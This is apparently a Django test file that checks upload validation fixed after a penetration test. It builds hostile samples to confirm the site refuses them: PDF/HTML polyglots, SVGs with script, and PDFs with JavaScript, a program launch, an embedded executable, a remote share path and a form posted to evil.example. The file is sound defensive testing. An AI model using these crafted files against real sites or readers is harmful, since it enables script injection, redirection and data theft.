"""Issue 11 (penetration test), uploads: a representative could host a web page on the
site's own origin as an event's programme (the only check was "%PDF-" at the start and
"%%EOF" at the end, and the sender's name and extension were kept), PDFs with scripts
were accepted, and a large picture cost seconds and hundreds of megabytes. Serving
(headers, unpublished items) is in test_media.py."""

import io
import re
import zlib
from importlib import import_module

import pytest
import reversion
from django.apps import apps as django_apps
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject
from reversion.models import Version

from members.models import Application, Member
from news.models import Event, EventDocument, Post
from tests.factories import (
    CategoryFactory,
    EventDocumentFactory,
    EventFactory,
    MemberFactory,
    image_file,
    pdf_bytes,
)
from tests.forms import (
    admin_event,
    application_data,
    event_data,
    post_data,
    profile_data,
    programme,
)

pytestmark = pytest.mark.django_db

EVENT_FORM = "/en/portal/relais-lyon/events/new/"
# The finding's file: a web page that begins with "%PDF-" and ends with "%%EOF".
WEB_PAGE = (
    b"%PDF-1.4\n<html><meta http-equiv=refresh content=0;url=https://evil.example/>"
    b"<p>Programme</p></html>\n%%EOF\n"
)
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.domain)</script></svg>"
)
POLYGLOT = "This file holds web page code (HTML) as well as a PDF document."
ACTIVE = "This PDF contains scripts, actions that open programs or other files, or attached files"
NOT_PDF = "This file is not a PDF document."


# PDFs made in memory.


def written(writer):
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def one_page():
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    return writer


def action(kind, **entries):
    return DictionaryObject(
        {NameObject("/S"): NameObject(kind)}
        | {NameObject(f"/{key}"): TextStringObject(value) for key, value in entries.items()}
    )


def pdf_with_open_action(kind, **entries):
    writer = one_page()
    writer._root_object[NameObject("/OpenAction")] = action(kind, **entries)
    return written(writer)


def pdf_with_javascript_in_names():
    writer = one_page()
    writer.add_open_action(JavaScript("app.alert('hello')"))
    return written(writer)


def pdf_with_page_action():
    """JavaScript run when the first page opens (/AA, additional actions)."""
    writer = one_page()
    writer.pages[0][NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): action("/JavaScript", JS="app.launchURL('https://evil.example/')")}
    )
    return written(writer)


def pdf_with_link(address):
    writer = one_page()
    link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([]),
            NameObject("/A"): action("/URI", URI=address),
        }
    )
    writer.pages[0][NameObject("/Annots")] = ArrayObject([link])
    return written(writer)


def pdf_with_attachment():
    writer = one_page()
    writer.add_attachment("tool.exe", b"MZ" + b"\0" * 100)
    return written(writer)


def encrypted_pdf(password):
    writer = one_page()
    writer.encrypt(password, "owner-password")
    return written(writer)


def pdf_with_compressed_objects(hidden):
    """A PDF 1.5 whose /OpenAction lives compressed in an object stream, with a
    cross-reference stream: nothing of it shows in the file's bytes."""
    header = b"5 0 "
    packed = zlib.compress(header + hidden)
    parts, offsets = [b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n"], {}

    def add(number, body):
        offsets[number] = sum(map(len, parts))
        parts.append(b"%d 0 obj\n%s\nendobj\n" % (number, body))

    add(1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>")
    add(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    add(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>")
    add(
        4,
        b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream"
        % (len(header), len(packed), packed),
    )
    table_at = sum(map(len, parts))
    rows = [b"\0\0\0\0\0\xff\xff"]
    rows += [b"\x01" + offsets[number].to_bytes(4, "big") + b"\0\0" for number in (1, 2, 3, 4)]
    rows += [b"\x02\0\0\0\x04\0\0", b"\x01" + table_at.to_bytes(4, "big") + b"\0\0"]
    table = b"".join(rows)
    add(
        6,
        b"<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n%s\nendstream"
        % (len(table), table),
    )
    parts.append(b"startxref\n%d\n%%%%EOF\n" % table_at)
    return b"".join(parts)


def with_markup_in_the_middle():
    """A valid PDF of many pages with a web page in a comment, past what a browser
    sniffs and outside every stream."""
    writer = PdfWriter()
    for _page in range(60):
        writer.add_blank_page(595, 842)
    content = written(writer)
    cut = content.index(b"endobj\n", len(content) // 2) + len(b"endobj\n")
    return content[:cut] + b"%<html><body onload=alert(1)></body></html>\n" + content[cut:]


def pdf(content, name="document.pdf"):
    return SimpleUploadedFile(name, content, "application/pdf")


def send_application(client, **documents):
    """The join form, sent with `documents` instead of Lien Familial's own."""
    return client.post("/en/join/", application_data(CategoryFactory(), **documents))


# The finding: a web page sent as an event's programme.


def test_a_web_page_named_programme_html_is_refused_and_never_served(rep_client):
    response = rep_client.post(
        EVENT_FORM, event_data(programme=SimpleUploadedFile("programme.html", WEB_PAGE))
    )

    assert response.status_code == 200
    assert POLYGLOT in response.text
    assert not Event.objects.exists()
    assert rep_client.get("/media/events/documents/programme.html").status_code == 404


def test_a_pdf_named_programme_html_is_stored_as_a_pdf_under_a_name_the_site_chooses(rep_client):
    rep_client.post(EVENT_FORM, event_data(programme=pdf(pdf_bytes(), name="programme.html")))

    document = EventDocument.objects.get()
    assert re.fullmatch(r"events/documents/[0-9a-f]{32}\.pdf", document.file.name)
    assert "programme" not in document.file.name


@pytest.mark.parametrize(
    "content", [SVG, b"%PDF-1.4\n" + SVG + b"\n%%EOF\n"], ids=["svg", "as pdf"]
)
def test_an_svg_sent_as_a_programme_is_refused_and_never_served(rep_client, content):
    response = rep_client.post(EVENT_FORM, event_data(programme=pdf(content, name="prog.svg")))

    assert response.status_code == 200
    assert not Event.objects.exists()
    assert rep_client.get("/media/events/documents/prog.svg").status_code == 404


def test_an_svg_sent_as_a_logo_is_refused(rep_client, relais):
    response = rep_client.post(
        "/en/portal/relais-lyon/profile/",
        profile_data(relais, logo=SimpleUploadedFile("logo.svg", SVG, "image/svg+xml")),
    )

    assert "Upload a valid image." in response.text
    assert not Member.objects.get(pk=relais.pk).logo


def test_an_svg_sent_as_a_news_picture_is_refused(rep_client):
    response = rep_client.post(
        "/en/portal/relais-lyon/news/new/",
        post_data(image=SimpleUploadedFile("photo.svg", SVG, "image/svg+xml")),
    )

    assert "Upload a valid image." in response.text
    assert not Post.objects.exists()


# Polyglots: a PDF that is also a web page.


@pytest.mark.parametrize(
    "content",
    [
        pdf_bytes().replace(b"\n", b"\n%<html><script>alert(1)</script>\n", 1),
        pdf_bytes() + b"<html><script>alert(1)</script></html>\n",
        with_markup_in_the_middle(),
    ],
    ids=["in the part browsers sniff", "after the end", "in a comment further in"],
)
def test_a_pdf_that_is_also_a_web_page_is_refused_as_an_application_document(client, content):
    response = send_application(client, annual_report_1=pdf(content))

    assert response.status_code == 200
    assert POLYGLOT in response.text
    assert not Application.objects.exists()


@pytest.mark.parametrize("before", [b"<html>", b" ", b"\xef\xbb\xbf"], ids=["html", "space", "bom"])
def test_anything_before_the_pdf_header_is_refused(rep_client, before):
    response = rep_client.post(EVENT_FORM, event_data(programme=pdf(before + pdf_bytes())))

    assert NOT_PDF in response.text
    assert not Event.objects.exists()


# What makes a PDF act rather than be read.


@pytest.mark.parametrize(
    "content",
    [
        pdf_with_open_action("/JavaScript", JS="app.alert(1)"),
        pdf_with_javascript_in_names(),
        pdf_with_page_action(),
        pdf_with_compressed_objects(b"<< /S /JavaScript /JS (app.alert(1)) >>"),
        pdf_with_javascript_in_names().replace(b"/JS ", b"/J#53 "),
        pdf_with_open_action("/Launch", F="C:\\Windows\\System32\\calc.exe"),
        pdf_with_open_action("/GoToR", F="\\\\evil.example\\share\\x.pdf"),
        pdf_with_open_action("/SubmitForm", F="https://evil.example/collect"),
        pdf_with_link("javascript:app.alert(1)"),
        pdf_with_attachment(),
    ],
    ids=[
        "javascript on opening",
        "javascript in the names tree",
        "javascript when a page opens",
        "javascript in a compressed object stream",
        "javascript under a disguised name",
        "launch",
        "another file",
        "form sent elsewhere",
        "javascript link",
        "attached file",
    ],
)
def test_a_pdf_that_acts_is_refused_as_an_application_document(client, content):
    response = send_application(client, reference_letter=pdf(content))

    assert response.status_code == 200
    assert ACTIVE in response.text
    assert not Application.objects.exists()


def test_a_pdf_with_javascript_is_refused_in_french_on_the_portal(rep_client):
    content = pdf_with_open_action("/JavaScript", JS="app.alert(1)")

    response = rep_client.post(
        "/fr/espace-membre/relais-lyon/evenements/nouveau/",
        event_data(programme=pdf(content)),
    )

    assert "Ce PDF contient des scripts" in response.text
    assert not Event.objects.exists()


@pytest.mark.parametrize(
    ("content", "message"),
    [
        pytest.param(b"MZ not a pdf at all", NOT_PDF, id="not a PDF"),
        pytest.param(
            pdf_with_open_action("/Launch", F="calc.exe"), ACTIVE, id="launches a program"
        ),
    ],
)
def test_a_bad_programme_is_refused_in_the_admin(admin_client, content, message):
    event = EventFactory(slug="meeting")

    response = admin_client.post(
        f"/admin/news/event/{event.pk}/change/",
        admin_event(
            title_en=event.title_en,
            status="published",
            **programme(pdf(content, name="programme.pdf")),
        ),
    )

    assert response.status_code == 200
    assert message in response.text
    assert not EventDocument.objects.exists()


@pytest.mark.parametrize(
    "content",
    [
        pdf_with_link("https://network.example.org/"),
        pdf_with_compressed_objects(b"<< /S /GoTo /D [3 0 R /Fit] >>"),
        pdf_bytes().replace(b"/Title (Programme)", b"/Title (Launch/JavaScript \\(day 1\\))"),
    ],
    ids=["web link", "compressed objects", "names in its title"],
)
def test_a_pdf_with_links_or_compressed_objects_is_accepted(rep_client, content):
    response = rep_client.post(EVENT_FORM, event_data(programme=pdf(content)))

    assert response.status_code == 302
    assert EventDocument.objects.count() == 1


@pytest.mark.parametrize("password", ["secret", ""], ids=["to open", "to change only"])
def test_an_encrypted_pdf_is_refused_with_a_message(rep_client, password):
    response = rep_client.post(EVENT_FORM, event_data(programme=pdf(encrypted_pdf(password))))

    assert "This PDF is protected by a password or encryption." in response.text
    assert not Event.objects.exists()


@pytest.mark.parametrize(
    "content",
    [
        pdf_bytes()[:300] + b"\n%%EOF\n",
        b"%PDF-1.7\n" + bytes(range(256)) * 40 + b"\n%%EOF\n",
        b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n" + b"0" * 2000 + b"\n%%EOF\n",
    ],
    ids=["cut short", "noise", "no pages"],
)
def test_a_broken_pdf_gets_a_message_never_an_error_page(rep_client, content):
    response = rep_client.post(EVENT_FORM, event_data(programme=pdf(content)))

    assert response.status_code == 200
    assert NOT_PDF in response.text


# Names the site chooses.


def test_a_news_picture_is_stored_under_random_names_not_the_items_slug(rep_client):
    rep_client.post(
        "/en/portal/relais-lyon/news/new/",
        post_data(image=image_file("open-day.png")),
    )

    post = Post.objects.get()
    assert re.fullmatch(r"news/originals/[0-9a-f]{32}\.webp", post.image.name)
    assert re.fullmatch(r"news/[0-9a-f]{32}\.webp", post.image_web.name)


def test_application_documents_are_stored_under_names_the_site_chooses(client):
    send_application(client, annual_report_1=pdf(pdf_bytes(), "Bilan 2024.pdf"))

    application = Application.objects.get()
    assert re.fullmatch(r"applications/[0-9a-f]{32}\.pdf", application.annual_report_1.name)


def test_files_stored_before_move_to_names_the_site_chooses():
    migration = import_module("news.migrations.0009_rename_stored_files")
    document = EventDocumentFactory(file=pdf(b"x"))
    default_storage.save("events/documents/programme.html", ContentFile(WEB_PAGE))
    EventDocument.objects.filter(pk=document.pk).update(file="events/documents/programme.html")

    migration.rename_files(django_apps, None)

    document.refresh_from_db()
    assert re.fullmatch(r"events/documents/[0-9a-f]{32}\.pdf", document.file.name)
    assert document.file.read() == WEB_PAGE
    assert not default_storage.exists("events/documents/programme.html")


def test_logos_stored_before_move_to_new_names_and_their_history_follows():
    migration = import_module("members.migrations.0012_rename_stored_files")
    member = MemberFactory(slug="relais-lyon", logo=image_file())
    old = "members/logos/small/relais-lyon.0123456789ab.webp"
    default_storage.save(old, ContentFile(member.logo_small.read()))
    Member.objects.filter(pk=member.pk).update(logo_small=old)
    with reversion.create_revision():
        reversion.add_to_revision(Member.objects.get(pk=member.pk))

    migration.rename_files(django_apps, None)

    member.refresh_from_db()
    assert re.fullmatch(r"members/logos/small/[0-9a-f]{32}\.webp", member.logo_small.name)
    assert not default_storage.exists(old)
    version = Version.objects.get_for_object(member).get()
    assert member.logo_small.name in version.serialized_data
    assert old not in version.serialized_data


# Pictures: pixels the site needs, decoded at the scale it needs.


def big_picture(size, image_format):
    output = io.BytesIO()
    Image.new("RGB", size, "#0b5c6b").save(output, image_format)
    return SimpleUploadedFile(f"big.{image_format.lower()}", output.getvalue())


def test_a_logo_of_6000_by_6000_pixels_is_refused_with_a_message(rep_client, relais):
    response = rep_client.post(
        "/en/portal/relais-lyon/profile/",
        profile_data(relais, logo=big_picture((6000, 6000), "JPEG")),
    )

    assert "This photo has too many pixels." in response.text
    assert not Member.objects.get(pk=relais.pk).logo


def test_a_png_of_more_than_10_megapixels_is_refused_with_a_message(rep_client):
    response = rep_client.post(
        "/en/portal/relais-lyon/news/new/", post_data(image=big_picture((4000, 3000), "PNG"))
    )

    assert "This picture has too many pixels." in response.text
    assert not Post.objects.exists()


def test_a_24_megapixel_photo_is_taken_and_stored_at_the_size_pages_need(rep_client, relais):
    response = rep_client.post(
        "/en/portal/relais-lyon/profile/",
        profile_data(relais, logo=big_picture((6000, 4000), "JPEG")),
    )

    assert response.status_code == 302
    with Image.open(Member.objects.get(pk=relais.pk).logo.path) as logo:
        assert logo.size == (1200, 800)


def test_a_sideways_photo_is_stored_upright_within_its_box(rep_client):
    exif = Image.Exif()
    exif[0x0112] = 6  # turn 90° clockwise to view
    output = io.BytesIO()
    Image.new("RGB", (4000, 3000), "#0b5c6b").save(output, "JPEG", exif=exif.tobytes())

    rep_client.post(
        "/en/portal/relais-lyon/news/new/",
        post_data(image=SimpleUploadedFile("photo.jpg", output.getvalue())),
    )

    post = Post.objects.get()
    assert (post.image_width, post.image_height) == (506, 675)
    with Image.open(post.image.path) as original:
        assert original.size == (1200, 1600)


# Request bodies.


def test_a_body_over_the_limit_is_refused_before_it_is_read(client):
    response = client.post(
        "/fr/adherer/", {"organisation": "x"}, CONTENT_LENGTH=str(33 * 1024 * 1024)
    )

    assert response.status_code == 413
    assert "<h1>Envoi trop volumineux</h1>" in response.text
    # The limit in the unit the page's next sentence uses ("10 Mo"), not Django's "Mio".
    assert "(32,0\xa0Mo). Les documents peuvent faire au plus 10\xa0Mo" in response.text
    assert not Application.objects.exists()


def test_a_form_larger_than_the_limit_gets_the_page_that_says_so(client, settings):
    settings.MAX_REQUEST_BYTES = 50_000
    response = send_application(client, annual_report_1=pdf(pdf_bytes(60_000)))

    assert response.status_code == 413
    assert "larger than the site takes at once (48.8\xa0KB)" in response.text


def test_a_request_the_proxy_refused_for_its_size_gets_the_page_that_says_so(client):
    """nginx, having refused a body over its limit, asks for this page without the body
    (deploy/nginx.conf); the page is in the address's language."""
    response = client.post("/fr/adherer/", HTTP_X_BODY_TOO_LARGE="1")

    assert response.status_code == 413
    assert "<h1>Envoi trop volumineux</h1>" in response.text
    assert not Application.objects.exists()
